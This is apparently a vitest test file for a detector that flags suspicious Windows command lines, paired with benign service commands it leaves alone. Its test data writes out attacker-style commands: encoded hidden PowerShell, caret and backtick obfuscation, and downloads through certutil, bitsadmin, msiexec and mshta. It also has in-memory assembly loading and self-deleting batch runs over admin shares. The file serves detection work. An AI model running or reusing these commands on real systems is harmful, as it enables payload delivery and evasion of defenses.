import { describe, expect, test } from 'vitest';
import { commandTraits } from '../../../main/detect/facts/command-traits.ts';

const BLOB = 'SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAA==';

/** Each command and the traits that it must have; others may be there too. */
const HITS: readonly (readonly [command: string, traits: readonly string[]])[] = [
  [
    `powershell.exe -nop -w hidden -encodedcommand ${BLOB}`,
    ['encoded-powershell', 'base64-blob', 'hidden-window'],
  ],
  [`%COMSPEC% /b /c start /b /min powershell -enc ${BLOB}`, ['encoded-powershell', 'hidden-window']],
  [`pwsh -e ${BLOB}`, ['encoded-powershell']],
  ['cmd /c p^o^w^e^r^s^h^e^l^l -c whoami', ['caret-obfuscation']],
  ['powershell i`e`x (n`e`w-object net.webclient)', ['tick-obfuscation', 'invoke-expression', 'download']],
  ["powershell -c ('Do'+'wnl'+'oad'+'String')", ['string-reassembly']],
  ['powershell -c ("{1}{0}" -f "X","IE")', ['string-reassembly']],
  ['cmd /c "set a=power&&set b=shell&&call %a%%b% -c x"', ['string-reassembly']],
  ['%COMSPEC:~0,1%%COMSPEC:~4,1% /c x', ['environment-slicing']],
  ['powershell -c & ($env:ComSpec[4,24,25]-Join"") x', ['environment-slicing', 'string-reassembly']],
  ["powershell -c (New-Object Net.WebClient).DownloadString('http://x/a')", ['download']],
  ['certutil.exe -urlcache -f http://x/a.exe a.exe', ['download']],
  ['bitsadmin /transfer j http://x/a c:\\a', ['download']],
  ['msiexec /q /i http://x/a.msi', ['download']],
  ['powershell -c [Reflection.Assembly]::Load([Convert]::FromBase64String($x))', ['in-memory-load']],
  ['cmd.exe /c echo abcdef > \\\\.\\pipe\\abcdef', ['pipe-echo']],
  ['rundll32.exe C:\\Windows\\Temp\\x.dll,a /p:abcdef', ['pipe-echo']],
  [
    '%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat & del %TEMP%\\execute.bat',
    ['output-redirect-share', 'delete-self', 'batch-from-share'],
  ],
  ['cmd /c \\\\srv\\share\\run.bat', ['batch-from-share']],
  ['cmd /c C:\\x.bat & del C:\\x.bat', ['delete-self']],
  ['powershell -WindowStyle Hidden -File x.ps1', ['hidden-window']],
  ['rundll32.exe x.dll,#1', ['rundll32-ordinal']],
  ['cmd /c echo x | clip && powershell -sta Get-Clipboard', ['clipboard']],
  ['powershell IO.Compression.DeflateStream([IO.MemoryStream]x)', ['compress', 'in-memory-load']],
  ['cmd /c echo iex x | powershell -noni -', ['stdin-pipe', 'invoke-expression']],
  ['mshta.exe http://x/a.hta', ['script-url', 'download']],
  ['mshta vbscript:Execute("x")', ['script-url']],
  ['regsvr32 /s /n /u /i:x scrobj.dll', ['script-url']],
  [`C:\\x.exe ${'-a '.repeat(300)}`, ['long-command']],
];

const MISSES = [
  '%SystemRoot%\\system32\\svchost.exe -k netsvcs -p',
  'C:\\Windows\\system32\\dllhost.exe /Processid:{02D4B3F1-FD88-11D1-960D-00805FC79235}',
  '"C:\\Program Files\\NVIDIA Corporation\\Display.NvContainer\\NVDisplay.Container.exe" -s NVDisplay.ContainerLocalSystem -f "C:\\ProgramData\\NVIDIA\\NVDisplay.ContainerLocalSystem.log" -l 3 -d "C:\\Program Files\\NVIDIA Corporation\\Display.NvContainer\\plugins\\LocalSystem"',
  'cmd.exe /C %windir%\\NvContainerRecovery.bat NVDisplay.ContainerLocalSystem C:\\ProgramData\\NVIDIA\\NvContainerRecoveryNVDisplay.ContainerLocalSystem.log',
  '"C:\\Program Files\\Agent\\agent.exe" --server https://agents.example.com/api --token 0123456789abcdef0123456789abcdef0123456789abcdef01234567',
  '"C:\\Program Files\\Java\\jre6\\bin\\jqs.exe" -service -config "C:\\Program Files\\Java\\jre6\\lib\\deploy\\jqs\\jqs.conf"',
  '"C:\\Program Files\\PostgreSQL\\15\\bin\\pg_ctl.exe" runservice -N "postgresql-x64-15" -D "C:\\Program Files\\PostgreSQL\\15\\data" -w',
  'C:\\Windows\\System32\\msiexec.exe /V',
  '"C:\\Windows\\System32\\Spectrum.exe" -safemode',
  '\\SystemRoot\\System32\\DriverStore\\FileRepository\\basicdisplay.inf_amd64_65ab9a260dbf7467\\BasicDisplay.sys',
  'C:\\backup\\wrapper.exe -e production -enc utf8',
  'customScript.cmd',
  'rundll32.exe shell32.dll,Control_RunDLL',
];

describe('traits of a command line', () => {
  test.each(HITS)('%s', (command, traits) => {
    expect(commandTraits([command])).toEqual(expect.arrayContaining([...traits]));
  });

  test.each(MISSES)('nothing in %s', (command) => {
    expect(commandTraits([command])).toEqual([]);
  });

  test('hostile text costs no time', () => {
    const hostile = [
      'echo > ',
      '%a%%',
      '\\\\a\\',
      'set x ',
      '"+"',
      '>>>> ',
      'a^',
      '{1}',
      'rundll32 ,',
      'AAAA/',
      '\\\\',
    ];
    for (const piece of hostile) {
      const before = process.cpuUsage();
      commandTraits([piece.repeat(200_000 / piece.length)]);
      const { user, system } = process.cpuUsage(before);
      expect((user + system) / 1000, piece).toBeLessThan(1_000);
    }
  });
});
